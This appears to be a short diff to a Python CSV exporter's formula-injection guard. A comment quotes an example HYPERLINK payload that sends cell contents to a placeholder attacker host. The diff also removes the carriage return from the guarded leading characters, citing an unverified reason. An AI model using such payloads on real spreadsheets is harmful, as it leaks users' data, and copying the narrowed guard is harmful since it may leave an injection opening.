@@ -81,7 +81,7 @@ class CsvExporter:
 
 #: A spreadsheet runs a cell that starts with one of these as a formula
 #: (=HYPERLINK("http://attacker/?"&A1, ...) in a tool's name or description).
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_FORMULA_START = ("=", "+", "-", "@", "\t")  # a leading "\r" is already shown as \u000d
 
 
 def _csv_cell(text: str) -> str:
